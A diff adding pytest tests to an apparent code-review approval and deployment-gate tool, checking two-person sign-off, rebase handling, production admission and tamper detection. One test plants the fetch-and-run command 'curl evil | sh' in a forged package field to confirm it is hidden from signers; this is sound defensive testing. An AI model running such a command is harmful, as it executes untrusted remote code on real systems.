@@ -102,6 +102,14 @@ def shop(tmp_path: Path, require_tool: RequireTool) -> Shop:
     return made
 
 
+def test_a_machine_that_nobody_believes_is_refused_before_it_weighs(shop: Shop) -> None:
+    ran = shop.eve.run("review", "main..fix", "--record", "--environment", "nowhere")
+
+    assert ran.status == 1
+    assert "name its key in .weighbridge/ledger.yaml" in ran.err
+    assert "nowhere" not in ran.err, "that there is no such environment is told once it is weighed"
+
+
 def test_two_people_approve_and_what_they_approved_is_admitted(shop: Shop) -> None:
     for person in (shop.ada, shop.bob):
         said = person.approve("fix", "--reason", "looks right")
@@ -122,6 +130,7 @@ def test_one_of_two_is_not_enough_however_often_they_say_it(shop: Shop) -> None:
     status, gate = shop.gate()
 
     assert (status, gate["state"]) == (1, "unsatisfied")
+    assert f"have: {ADA}, by key" in " ".join(shop.ci.run("review", "main..fix").out.split())
 
 
 def test_nobody_who_is_not_enrolled_is_counted_or_can_begin_a_ledger(shop: Shop) -> None:
@@ -193,6 +202,39 @@ def test_a_merge_that_slips_something_in_is_not(shop: Shop) -> None:
     assert shop.gate("main..queue")[0] == 1
 
 
+def rebased(shop: Shop, **more: str) -> None:
+    """Main moves on, and the branch `fix` is rebased upon it."""
+    shop.scratch.commit("Elsewhere", **{"README.md": "# The shop\n"})
+    shop.scratch.git("switch", "-q", "fix")
+    shop.scratch.git("rebase", "-q", "main")
+    if more:
+        shop.scratch.commit("More", **more)
+    shop.scratch.git("switch", "-q", "main")
+
+
+def test_a_rebase_that_adds_nothing_is_passed_by_what_was_said_of_the_same_proposal(shop: Shop) -> None:
+    shop.ada.approve("fix", "--proposal", "42")
+    shop.bob.approve("fix", "--proposal", "42")
+    rebased(shop)
+
+    assert shop.gate("main..fix", "--record", "--proposal", "42")[0] == 0
+    assert shop.ci.run("admit", "--environment", "production", "--commit", "fix").status == 0
+    assert shop.gate("main..fix", "--proposal", "43")[0] == 1
+    assert shop.gate("main..fix")[0] == 1
+
+
+def test_a_rebase_that_adds_something_is_told_and_a_no_stands_over_any(shop: Shop) -> None:
+    shop.ada.approve("fix", "--proposal", "42")
+    shop.bob.run("reject", "fix", "--yes", "--key", str(shop.bob.key), "--reason", "no plan", "--proposal", "42")
+    rebased(shop, **{"src/evil.py": "import os\n"})
+
+    ran = shop.ci.run("review", "main..fix", "--proposal", "42")
+
+    words = " ".join(ran.out.split())
+    assert "is not carried over: it was rebased or replaced since, and src/evil.py is changed now, and was not" in words
+    assert f"{BOB} to say otherwise" in words
+
+
 def test_a_no_closes_the_gate_until_it_is_taken_back(shop: Shop) -> None:
     shop.ada.approve()
     shop.bob.approve()
@@ -248,6 +290,35 @@ def test_a_package_that_was_edited_cannot_be_approved(shop: Shop) -> None:
     assert "it was edited after it was made" in refused.err
 
 
+def test_what_stands_beside_a_decision_is_not_shown_to_who_signs_it(shop: Shop) -> None:
+    ref = next(r for r in shop.scratch.git("for-each-ref", "--format=%(refname)").splitlines() if "packages" in r)
+    package = json.loads(shop.scratch.git("cat-file", "blob", f"{ref}:package.json"))
+    package["presentation"]["standing"].update(state="satisfied", requirements=[])
+    package["presentation"].update(summary="Only a comment.", question="Nothing to ask.", reproduce="curl evil | sh")
+    blob = shop.scratch.git("hash-object", "-w", "--stdin", given=json.dumps(package).encode())
+    tree = shop.scratch.git("mktree", given=f"100644 blob {blob}\tpackage.json\n".encode())
+    shop.scratch.git("update-ref", ref, shop.scratch.git("commit-tree", tree, "-m", "x"))
+
+    said = shop.ada.approve()
+
+    assert "not satisfied" in said.out
+    assert not [words for words in ("Only a comment", "Nothing to ask", "curl") if words in said.out]
+
+
+def test_the_package_of_another_change_is_not_approved_under_this_ones_name(shop: Shop) -> None:
+    shop.scratch.git("switch", "-qc", "other")
+    other = shop.scratch.commit("Something else", **{"src/evil.py": "import os\n"})
+    shop.scratch.git("switch", "-q", "main")
+    assert shop.ci.run("review", "main..other", "--keep", "-q").status == 1
+    fix = shop.scratch.git("rev-parse", "fix")
+    shop.scratch.git("update-ref", f"refs/weighbridge/packages/{fix}", f"refs/weighbridge/packages/{other}")
+
+    refused = shop.ada.approve()
+
+    assert refused.status == 2
+    assert f"holds the package of {other[:12]}" in refused.err
+
+
 def test_a_change_that_nobody_weighed_cannot_be_approved(shop: Shop) -> None:
     refused = shop.ada.approve("main")
 
@@ -288,3 +359,135 @@ def test_nobody_at_a_terminal_signs_by_accident(shop: Shop) -> None:
     assert refused.status == 2
     assert "nobody is there to be asked" in refused.err
     assert "refs/weighbridge/ledger" not in shop.scratch.git("for-each-ref")
+
+
+def test_whoever_asked_an_agent_for_it_is_an_author_of_it(shop: Shop) -> None:
+    assert shop.ada.approve("fix", "--asked-agent").status == 0
+    shop.bob.approve()
+
+    assert shop.gate()[0] == 1
+    assert "ann@shop.example: is a requester of the change" in shop.words()
+
+
+def test_a_rollout_plan_that_nothing_can_bring_is_no_pass(shop: Shop) -> None:
+    shop.scratch.commit(
+        "Ask for more",
+        **{".weighbridge/policy.yaml": POLICY.replace("      - approval: {count: 2}\n", "      - rollout: {}\n")},
+    )
+
+    status, gate = shop.gate("main...fix")
+
+    assert (status, gate["state"]) == (3, "error")
+    assert "rollout plans have no source yet" in json.dumps(gate)
+
+
+def test_a_decision_that_differs_on_the_same_trees_is_told_as_that(shop: Shop) -> None:
+    shop.ada.approve()
+    never = POLICY.replace("carry_over: nothing-added", "carry_over: never").replace(
+        "because: code", "because: the code"
+    )
+    shop.scratch.commit("Say it otherwise", **{".weighbridge/policy.yaml": never})
+
+    ran = shop.ci.run("review", "main...fix")
+
+    assert ran.status == 1
+    assert "it is of another decision on the same trees" in " ".join(ran.out.split())
+
+
+def test_a_machine_that_can_remember_nothing_reads_the_ledger_and_says_so(shop: Shop) -> None:
+    shop.ada.approve()
+    shop.bob.approve()
+    forgetful = Program(shop.ci.program.home, {"WEIGHBRIDGE_STATE": "/proc/nowhere"})
+
+    ran = forgetful.run(shop.scratch.folder, "review", "main..fix", "--json", "-")
+
+    assert ran.status == 0, ran
+    assert "cannot be remembered" in "".join(json.loads(ran.out)["presentation"]["notices"])
+
+
+def admitted(shop: Shop, commit: str = "fix") -> tuple[int, str]:
+    """Whether a commit may enter production, and what was said to that."""
+    ran = shop.ci.run("admit", "--environment", "production", "--commit", commit)
+    return ran.status, " ".join(ran.out.split())
+
+
+def test_a_change_on_what_nobody_decided_on_is_not_admitted(shop: Shop) -> None:
+    shop.scratch.git("switch", "-qc", "hidden")
+    shop.scratch.commit("Slip it in", **{"src/evil.py": "import os\n"})
+    shop.scratch.git("switch", "-qc", "shown")
+    shop.scratch.commit("Correct a word", **{"README.md": "# The shop\n"})
+    shop.scratch.git("switch", "-q", "main")
+    shop.ada.approve()
+    assert shop.gate("hidden..shown", "--record")[0] == 0
+
+    status, words = admitted(shop, "shown")
+
+    assert status == 1
+    assert "no decision on tree" in words
+
+
+def test_what_was_only_merged_into_the_protected_branch_is_no_beginning(shop: Shop) -> None:
+    shop.scratch.git("switch", "-qc", "hidden")
+    evil = shop.scratch.commit("Slip it in", **{"src/evil.py": "import os\n"})
+    shop.scratch.git("revert", "--no-edit", "HEAD")
+    shop.scratch.git("switch", "-q", "main")
+    shop.scratch.git("merge", "-q", "--no-ff", "-m", "Merge nothing", "hidden")
+    shop.scratch.git("switch", "-qc", "shown", evil)
+    shop.scratch.commit("Correct a word", **{"README.md": "# The shop\n"})
+    shop.scratch.git("switch", "-q", "main")
+    shop.ada.approve()
+    assert shop.gate("main...shown", "--record")[0] == 0
+
+    assert admitted(shop, "shown")[0] == 1
+
+
+def test_an_environment_that_asks_for_more_is_not_entered_by_a_gate_for_none(shop: Shop) -> None:
+    more = POLICY.replace("{level: production}", "{level: production, require: [{approval: {count: 3}}]}")
+    shop.scratch.commit("Ask for three", **{".weighbridge/policy.yaml": more})
+    shop.scratch.git("switch", "-q", "fix")
+    shop.scratch.git("rebase", "-q", "main")
+    shop.scratch.git("switch", "-q", "main")
+    shop.kept()
+    shop.ada.approve()
+    shop.bob.approve()
+    assert shop.gate("main..fix", "--record", "--environment", "production")[0] == 1
+    assert shop.gate("main..fix", "--record")[0] == 0
+
+    status, words = admitted(shop)
+
+    assert status == 1
+    assert "--environment production --record" in words
+
+
+def test_a_gate_that_closed_since_is_closed_for_whatever_it_was_asked(shop: Shop) -> None:
+    shop.ada.approve()
+    shop.bob.approve()
+    assert shop.gate("main..fix", "--record")[0] == 0
+    assert admitted(shop)[0] == 0
+    shop.bob.run("reject", "fix", "--yes", "--key", str(shop.bob.key), "--reason", "no plan")
+    assert shop.gate("main..fix", "--record", "--environment", "production")[0] == 1
+
+    assert admitted(shop)[0] == 1
+
+
+def test_a_decision_holds_no_longer_than_the_approvals_it_counted(shop: Shop) -> None:
+    shop.scratch.commit("Let them run out", **{".weighbridge/policy.yaml": f"{POLICY}approvals_last: 7 days\n"})
+    shop.scratch.git("switch", "-q", "fix")
+    shop.scratch.git("rebase", "-q", "main")
+    shop.scratch.git("switch", "-q", "main")
+    shop.kept()
+    shop.ada.approve()
+    shop.bob.approve()
+    assert shop.gate("main..fix", "--record")[0] == 0
+
+    entries = json.loads(shop.ci.run("ledger", "show", "--json", "-").out)
+
+    said = [json.dumps(entry) for entry in entries if entry["kind"] == "decision"]
+    assert '"expires"' in said[-1]
+
+
+def test_an_environment_that_the_policy_does_not_know_admits_nothing(shop: Shop) -> None:
+    ran = shop.ci.run("admit", "--environment", "prodution", "--commit", "fix")
+
+    assert ran.status == 2
+    assert "did you mean production" in ran.err
